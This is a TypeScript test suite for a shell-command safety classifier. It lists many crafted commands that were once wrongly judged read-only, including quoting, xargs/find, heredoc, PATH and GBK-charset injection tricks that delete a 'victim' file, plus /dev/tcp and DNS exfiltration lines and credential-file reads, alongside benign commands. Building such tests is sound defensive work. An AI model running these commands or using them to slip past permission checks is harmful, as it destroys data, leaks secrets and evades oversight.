// Commands that were once called free and changed something. Each that needs nothing but bash and coreutils is run here first, so
// that the row is known to be an attack; those of other programs were tried by hand. Below them: plain work, which stays free.

import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t from 'tap';
import { classifyShell } from '../../policies/classify/shell/classifier.ts';

const isFree = (text: string, terminal = false): boolean => {
  const { understood, summary } = classifyShell(text, terminal);
  return understood && (summary.access === 'read' || summary.access === 'session');
};

/** Each removes the file "victim", or writes into it. */
const changesVictim = [
  'echo victim | xargs --max-lines rm ls',
  'echo victim | xargs --replace rm {}',
  'echo -ovictim | xargs -I zz -L 1 sort',
  // To dash these are a redirection and a program.
  "dash -c '[[ a > victim ]]'",
  "find a -exec dash -c '[[ a || rm == victim ]]' \\;",
  "dash <<< '(( rm + victim ))'",
  `dash -c "eval '[[ a > victim ]]'"`,
  `dash -c "trap '[[ a > victim ]]' EXIT"`,
  "x=';'; find . -name victim -exec ls $x -delete -exec ls \\;",
  'x=";"; find . -name victim -exec ls "$x" -delete -exec ls \\;',
  "x='; -delete -exec ls'; find . -name victim -exec ls $x \\;",
  'find . -name victim -exec ls {\\;,-delete,-exec} ls \\;',
  "x='{}'; find . -name victim -exec ls $x + -delete",
  'x="{}"; find . -name victim -exec ls "$x" + -delete -exec ls \\;',
  'x=";"; y=-exec; find . -name victim -exec ls "$x" "$y" rm {} \\;',
  'echo -ovictim | xargs -I zz -I a sort a',
  'echo -ovictim | xargs --replace -I a sort a',
  'printf %s -ovictim | xargs -0rI a sort a',
  'for f in a; do read -af <<< -ovictim; sort $f < a; done',
  'y=b; echo "-o victim #" | xargs -I% sort "%$y" a; y=; echo -ovictim | xargs -I% sort "%$y" a',
  'op=-v; [ ! "$op" \'a[$(rm victim)]\' ]',
  'op=-v; [ x -a "$op" \'a[$(rm victim)]\' ]',
  'op=-v; test ! "$op" \'a[$(rm victim)]\'',
  "x='y -o -v a[$(rm${IFS}victim)]'; [ -f $x ]",
  "x=5; read -a x <<< 'a[$(rm${IFS}victim)]'; echo $((x))",
  '((PATH=10)); ls',
  'for ((PATH=10; PATH<11; PATH=11)); do ls; done',
  'echo $((PATH=10)); ls',
  "x='A rm victim'; env -u $x ls",
  'env -u {A,rm} ls victim',
  'cp a ls; timeout {5,rm} victim ls',
  'uniq {a,victim}',
  'cp a victi; uniq victi*',
  "x='1970-01-01 -delete'; find . -newermt $x",
  "x='a of=victim'; dd if=$x",
  'uniq -- a victim',
  'find . -newermt {1970-01-01,-delete}',
  "sh <<EOF\necho \\\\' ; rm victim #'\nEOF",
  "sh <<EOF\necho 'a'\\`rm victim\\`\nEOF",
  "bash <<'EOF'\nread y\n: '\nrm victim #'\nEOF",
  "bash <<< $'read y\\n: \\'\\nrm victim #\\''",
  "while read y; do sh; done <<'EOF'\n: '\nrm victim #'\nEOF",
  "{ read y; sh; } <<'EOF'\n: '\nrm victim #'\nEOF",
  "y='b[$(rm victim)]'; a=([y]=1)",
  "y='b[$(rm victim)]'; a+=([1]=x [y]+=1)",
  "a=(['$(rm victim)']=1)",
  'a=(1)`rm victim`',
  'a=(1)"$(rm victim)"',
  'a=(1)${b:-$(rm victim)}',
  "cat <<EOF\n${a:-'$(rm victim)'}\nEOF",
  "cat <<EOF\n${a:-$'$(rm victim)'}\nEOF",
  'echo "${a:-$\'$(rm victim)\'}"',
  "printf '%10d%n' 1 PATH; ls",
  'set -eo keyword; /bin/sh -c ls PATH=10',
];

t.test('what bash does with them', async (t) => {
  const home = mkdtempSync(join(tmpdir(), 'attack-shell-'));
  t.teardown(() => rmSync(home, { recursive: true, force: true }));
  for (const [index, text] of changesVictim.entries()) {
    const cwd = join(home, String(index));
    mkdirSync(join(cwd, '10'), { recursive: true });
    writeFileSync(join(cwd, 'victim'), 'kept');
    writeFileSync(join(cwd, 'a'), 'written\n');
    writeFileSync(join(cwd, '10', 'ls'), '#!/bin/sh\n/bin/rm victim\n');
    chmodSync(join(cwd, '10', 'ls'), 0o755);
    spawnSync('bash', ['-c', text], { cwd, timeout: 5_000 });
    const kept = existsSync(join(cwd, 'victim')) && spawnSync('cat', ['victim'], { cwd }).stdout.toString() === 'kept';
    t.notOk(kept, `it is an attack: ${text}`);
    t.notOk(isFree(text), text);
  }
});

t.test('more that are not free', async (t) => {
  const waits = [
    'uniq -- in -out',
    'xxd in -- -out',
    "TERM=xterm watch -x sh -c 'find . -delete'",
    "watch -tx sh -c 'find . -delete'",
    'echo "-o victim" | xargs tree -I zz',
    'read -a PATH <<< /tmp/evil; ls',
    'read -aPATH <<< /tmp/evil; ls',
    'exec {PATH}</etc/passwd; ls',
    ': ${PROMPT_COMMAND:=rm x}',
    '((x+=1))',
    'systemctl --failed stop nginx',
    'ip link s eth0 down',
    'ip netns exec a ls',
    'ip vrf exec a ls',
    'ip tunnel del a',
    // Its real arguments come over the connection: with --remove-source-files, say.
    'rsync --server --sender -svlogDtpre.iLsfxCIvu . /data',
    "sed 's/[]/]/;s/w tmp/x/' f",
    'find . -name *',
    'scp -f $x',
    'x=/dev/tcp/10.0.0.1/80; exec 3< $x; cat /etc/hostname >&3',
    'cat < /dev/t$(echo cp)/h/1',
    'cat < /dev/{tcp,x}/a/1',
    'x=/dev; cat < $x/tcp/a/1',
    'x=; cat < $x/dev/tcp/a/1',
    'cat < $1',
    'x=/etc; read x; cat < $x',
    'for x in /dev/tcp/a/1; do cat < $x; done',
    'cat < ${x:-/dev/tcp/a/1}',
    'cd /dev; cat < ~+/tcp/h/1',
    'cd /dev; cat < $PWD/tcp/h/1',
    'read <<< /dev/tcp/h/1; cat < $REPLY',
    // The b is part of a value: it takes keys, and they end processes.
    'top -unobody',
    'top -u -b',
    'kubectl get --raw /api/v1/namespaces/a/services/b/proxy/quit',
    'kubectl get secrets --as=root',
    'kubectl logs -fs http://h pod',
    'kubectl get pods --log-file=/tmp/x --logtostderr=false',
    'kubectl -n get delete pod',
    'date -d x 01010000',
    'date -- -d 01010000',
    'systemctl -t stop stop nginx',
    'docker compose down',
    'apt -o Dpkg::Pre-Invoke=x list',
    'rpm -q --pipe x bash',
    'git branch new',
    'sysctl vm.swappiness=1',
    'sysctl -w vm.swappiness',
    'sysctl -p',
    'sysctl --system',
    'pmap -N .bashrc 1',
    'git stash',
    'git grep -Oless x',
    // The first "print" stands in a string.
    'awk \'BEGIN{x="print"; print "y" > "z"}\'',
    'awk \'/"/{print "x" > "y"; "}\'',
    // GNU sed looks for the comma behind the whole set, and then there is a "w".
    "sed 's,[[:alpha:],],;s,w victim,,' f",
    "sed 's,[[.-.],],;s,w victim,,' f",
    "sed '/[[:alpha:]/]/w victim' f",
    "sed 's,[],];s,x,w victim,' f",
    "sed ':a w victim' f",
    "sed 'b;w victim' f",
    "sed ':;w victim' f",
    "sed 'ba}w victim' f",
    "sed 's,[^],];s,x,w victim,' f",
    // It makes arguments assignments, and git has a program run that GIT_EXTERNAL_DIFF names.
    'set -eo keyword; git diff GIT_EXTERNAL_DIFF=x',
    'set -uo posix',
    'set -e -o history',
    'coproc PATH { sleep 1; }; ls',
    'printf "a$x" PATH',
    'printf a* -v PATH',
    'ifconfig eth0 -arp',
    'ifconfig -a down',
    // dash and bash look for different ends.
    'cat <<`E\na\nE\nls',
    'cat <<$(E)\na\n$(E)',
    'cat <<E"F"\na\nEF',
    'netstat -sz',
    // The key "s" of newer versions writes the screen into a file of the folder.
    'cd /etc/cron.d; watch -t echo x',
    'printf s | TERM=xterm watch -x echo x',
    // It is podman's own option, behind the verb as well.
    'podman ps --cpu-profile=/etc/cron.d/x',
    'podman images --storage-opt overlay.mount_program=/tmp/x',
    'podman logs --url ssh://h x',
    'podman ps --an-option-of-tomorrow',
    'kubectl get -f http://h/x',
    'kubectl describe -fhttps://h/x',
    'kubectl get -f "http$x"',
    'gawk 1 /inet/tcp/0/h/80',
    'gawk 1 /inet4/udp/0/"$x"/80',
    'awk 1 /in"$x"',
    'gawk \'BEGIN{ARGV[1]="/inet/tcp/0/h/80"; ARGC=2} 1\'',
    'gawk \'BEGIN{SYMTAB["AR" "GV"][1]="x"} 1\'',
    'getent hosts "$(id -un).example.com"',
    'getent ahosts $x',
    'ss dst "x$(id -un).example.com"',
    'lsof -i "@x$(id -un).example.com"',
    'file -p f',
    'getent -s dns hosts x',
    'dig "$x".example.com',
    'dig @10.0.0.1 x',
    'dig x -p 53',
    'host x 10.0.0.1',
    'nslookup x 10.0.0.1',
    'nslookup -port=1 x',
    'xargs dig',
    "printf '!rm x' | unbuffer -p git log",
    'kubectl config view --profile_output=x --profile=heap',
    'kubectl get pods --as_group=x',
    // Talkative, and then they run what comes in, or a file of the folder.
    'echo "DROP TABLE orders" | mysql -v',
    'mariadb -v < f',
    'python3 -v',
    '/usr/bin/python3 -v',
    'pypy3 -v',
    'ghci -v',
    'scala -v',
    'mongo -v',
    'ninja -v',
    ...['-v', '-V', '--version', '""'].map((word) => `echo 'exec rm victim' | tclsh ${word}`),
    "sh -c '[[ a > victim ]]'",
    "/bin/sh -ec 'a+=/../x'",
    "busybox ash -c '[[ a > victim ]]'",
    // The login shell may be dash: what stands in quotes gets no line before it.
    "eval '[[ a > victim ]]'",
    "trap '((rm + victim))' EXIT",
    'docker --version run -v /:/h alpine rm -r /h/srv',
    'mount --label=x',
    'mount --uuid=x',
    'mount -t nfs --target=/mnt',
  ];
  for (const text of waits) t.notOk(isFree(text), text);
});

t.test('a character set that reads quotes in another way', async (t) => {
  // zh_CN.GBK takes the last byte of the letter and the backslash for one letter: the quote is closed, and rm runs.
  const hidden = 'echo "中\\"; rm victim; echo 中\\"x"';
  for (const text of [
    `LC_ALL=zh_CN.GBK\n${hidden}`,
    `export LANG=zh_TW\n${hidden}`,
    `LC_CTYPE=ja_JP.SJIS bash -c '${hidden}'`,
    'LANGUAGE=../../../tmp/x ls y',
    `env LC_ALL=zh_HK.BIG5-HKSCS bash -c '${hidden}'`,
    `x=zh_CN.GBK; LC_ALL=$x\n${hidden}`,
    `read LC_ALL <<< zh_CN.GBK\n${hidden}`,
    `for LC_ALL in zh_CN.GBK; do eval '${hidden}'; done`,
    `LC_ALL=C; LC_ALL+=.GBK\n${hidden}`,
  ])
    t.notOk(isFree(text), text);
  for (const text of [
    'LC_ALL=C sort f',
    'LANG=en_US.UTF-8 ls',
    'export LC_ALL=C.UTF-8; ls',
    'env LC_ALL=de_DE date',
    'LANG= ls',
    'LANGUAGE=de_DE:en ls',
    'TZ=UTC date',
  ])
    t.ok(isFree(text), text);
});

t.test('pagers of a terminal start programs', async (t) => {
  const pages = [
    'dpkg -l',
    'dmesg -H',
    'dmesg --human',
    "systemctl list-units -- '*' --no-pager",
    'journalctl -u ssh -u --no-pager',
    'git branch',
    'git --no-pager log --help',
    'systemctl status --help --no-pager',
    'journalctl -xh --no-pager',
    'loginctl --no-pager list-users --hel',
    'apt list',
  ];
  for (const text of pages) t.notOk(isFree(text, true), text);
  const plain = [
    'dpkg -l --no-pager',
    'dpkg --no-pager -l bash',
    'systemctl --failed --no-pager',
    'systemctl status nginx --no-pager -l',
    'systemctl list-units --type service --no-pager',
    'journalctl -u nginx -n 50 --no-pager',
    'journalctl -xe --no-pager',
    'dmesg -T',
  ];
  for (const text of plain) t.ok(isFree(text, true), text);
});

t.test('keys of a terminal that run what was typed', async (t) => {
  // Ctrl-X Ctrl-E, and Meta-Ctrl-E behind $(…).
  for (const terminal of [true, false]) t.notOk(isFree('read -e x', terminal));
  t.ok(isFree('read -r -p name x', true));
});

t.test('nohup writes a file on a terminal, and only there', async (t) => {
  t.notOk(isFree('nohup echo x', true));
  t.ok(isFree('nohup echo x', false));
});

t.test('plain work stays free', async (t) => {
  const plain = [
    'find . -name *.log -mtime +3',
    'find /var/{log,tmp} -name x',
    '[ $? -eq 0 ] && echo ok',
    '[ -n "$x" ] && ls',
    '[ "$a" = "b" ] && ls',
    'test "$x"',
    '[ -f "$f" ] && cat "$f"',
    '[ "$a" = x -a "$b" = y ]',
    'i=0; while [ "$i" -lt 3 ]; do ((i+=1)); done',
    'i=0; ((i++)); echo $i',
    'systemctl --failed',
    'dpkg -l | grep nginx',
    'ip -br link',
    'ip link show eth0',
    'ip netns list',
    'ip tunnel show',
    'while read -r a b; do echo "$b"; done < file',
    'while read -r a; do echo "$a"; done < <(ls)',
    'read -r -a words < file',
    'for f in *.log; do wc -l < "$f"; done',
    'f=/etc/hosts; wc -l < "$f"',
    'd=/var/log; wc -l < "$d/syslog"',
    'wc -l < "$HOME/x"',
    'wc -l < ~/x',
    'find . -type f -print0 | xargs -0 -I{} head -1 {}',
    'cat list | xargs -I{} -n1 echo {}',
    'find . -type f | xargs -n1 wc -l',
    "bash -c '[[ -f a ]] && ls'; sh -c 'echo $((1 + 1)); ls'; eval 'ls -l'",
    `sh -c "bash -c '[[ -f a ]]'"`,
    'find . -name x -exec grep -l "$pattern" {} +',
    'find . -exec grep -e "$a" -e "$b" {} \\;',
    'find . -type f -print0 | xargs -0I{} head -1 {}',
    'cat list | xargs -rn1 wc -l',
    'docker --version; systemctl --version',
    'while sleep 2; do date; done',
    'rsync --server --sender -vlogDtpre.iLsfxCIvu . /data',
    "sed 's/[^]]*//; s/[abc]/x/' f",
    "sed -E 's/^[[:space:]]+//' f",
    'kubectl logs -f pod-1 --tail=10',
    'grep -c -- -x file',
    "sh <<'EOF'\ndf -h\nEOF",
    'cat <<EOF\n"it\'s ${a:-none}" costs \\$5\nEOF',
    'a=([1]=b [2]=c *.log)',
    'a=(); b=( 1 ); c=(1 # one\n "$x" \\\n)',
    'echo "${x//\'a\'/b}"',
    'top -b -n1 -u root',
    "date -d '1 day ago' +%F",
    'kubectl -n kube-system get pods -ojson',
    'kubectl --context=a config view',
    'kubectl rollout status deploy/x',
    'docker compose ps',
    'docker container ls -a',
    'systemctl --type=service --state=running',
    'apt list --installed',
    'apt-cache policy nginx',
    'rpm -qa',
    "dpkg-query -W -f='${Package}\\n'",
    'git branch -a',
    'git remote -v',
    'git stash list',
    'zgrep -i x a.gz',
    'hostnamectl',
    'sysctl -a',
    'sysctl -n vm.swappiness',
    'iostat -x 1 3',
    'pmap -x 1',
    'awk \'{print $1 "|" $2}\' f',
    "sed 's/[[:space:]]*$//; s/[[]//; s/[^[:alnum:]_.]//' f",
    "sed 's/[]a]/x/' f",
    "sed ':a;N;$!ba;s/\\n/,/g' f",
    "sed -e :a -e '$!N;s/x/y/;ta' f",
    "sed 's/[\\t ]/x/' f",
    'set -euo pipefail; ls',
    'set -ex; ls',
    'printf "%s %d%%\\n" "$x" 3',
    "printf '%s%n' a count",
    'ifconfig',
    'ifconfig -a',
    'ifconfig eth0',
    'netstat -tlnp',
    'ss -tn sport = ":$port"; lsof -i ":$port"; lsof "/var/log/$x"; ss -tn dst 10.0.0.1',
    'podman ps -a --format json',
    'podman container ls',
    'kubectl get deploy -f deploy.yaml',
    'kubectl get "svc/$x"',
    'getent passwd root',
    'getent hosts db-1',
    'dig example.com',
    'dig example.com MX +short',
    'host db-1',
    'nslookup db-1',
    'python3 --version; perl -v; make -v; mysql -V; ninja --version; java -version; redis-cli -v',
    'mount | grep nfs; mount -l; mount -t nfs',
  ];
  for (const text of plain) t.ok(isFree(text), text);
});
